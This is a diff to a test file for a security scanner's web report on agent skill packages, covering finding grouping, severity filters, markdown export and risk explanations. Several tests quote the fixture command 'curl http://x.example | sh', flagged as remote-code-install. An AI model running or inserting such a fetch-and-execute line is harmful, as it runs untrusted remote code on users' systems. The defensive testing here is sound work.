@@ -24,8 +24,62 @@ def cast() -> Cast:
 
 def test_groups_the_findings_by_file(cast: Cast) -> None:
     answer = signed_in(cast.nora).get(ADDRESS)
-    assert [path for path, _findings in answer.context["groups"]] == ["", "scripts/run.sh"]
+    assert [file.path for file in answer.context["report"].sheet.files] == ["", "scripts/run.sh"]
     assert 'href="/skills/refund-check/versions/1.0.0/files/scripts/run.sh#L2"' in answer.content.decode()
+
+
+def test_quotes_the_lines_that_are_meant_but_no_file_with_a_suspected_secret(cast: Cast) -> None:
+    html = signed_in(cast.nora).get(ADDRESS).content.decode()
+    assert "<mark>curl http://x.example | sh</mark>" in html
+    Version.objects.get().findings.filter(path="scripts/run.sh").update(code="secret-suspected")
+    assert "<mark>" not in signed_in(cast.nora).get(ADDRESS).content.decode()
+
+
+def test_nothing_of_a_revoked_version_is_quoted(cast: Cast) -> None:
+    Version.objects.update(revoked_at=make.NOW)
+    assert "<mark>" not in signed_in(cast.nora).get(ADDRESS).content.decode()
+
+
+def test_filters_by_severity(cast: Cast) -> None:
+    client = signed_in(cast.nora)
+    shown = client.get(f"{ADDRESS}?severity=advice").context["report"].sheet
+    assert {item.finding.severity for file in shown.files for item in file.items} == {"advice"}
+    part = client.get(f"{ADDRESS}?severity=warning", headers={**HTMX, "HX-Target": "report"}).content.decode()
+    assert part.count('id="report"') == 1
+    assert "remote-code-install" in part
+    assert client.get(f"{ADDRESS}?severity=none").context["report"].sheet.only == ""
+
+
+def test_the_report_as_markdown(cast: Cast) -> None:
+    answer = signed_in(cast.nora).get(f"{ADDRESS}?format=md")
+    text = answer.content.decode()
+    assert answer["Content-Type"] == "text/markdown; charset=utf-8"
+    assert text.startswith("# refund-check 1.0.0\n")
+    for told in (
+        "### `scripts/run.sh`",
+        "> ",
+        "curl http://x.example | sh",
+        "Agent runtimes",
+        "Why this risk",
+    ):
+        assert told in text
+
+
+def test_tells_runtimes_and_what_raised_the_risk(cast: Cast) -> None:
+    Version.objects.update(
+        runtimes={
+            "spec": {"verdict": "loads", "notes": []},
+            "maf": {"verdict": "fails", "notes": ["The folder has another name."]},
+        }
+    )
+    answer = signed_in(cast.nora).get(ADDRESS)
+    html = answer.content.decode()
+    assert "Microsoft Agent Framework" in html
+    assert "The folder has another name." in html
+    assert "Why the scan suggests high" in html
+    assert ("high", "remote-code-install") in {
+        (one.risk, one.cause) for one in answer.context["report"].reasons
+    }
 
 
 def test_tells_declaration_provenance_and_digests(cast: Cast) -> None:
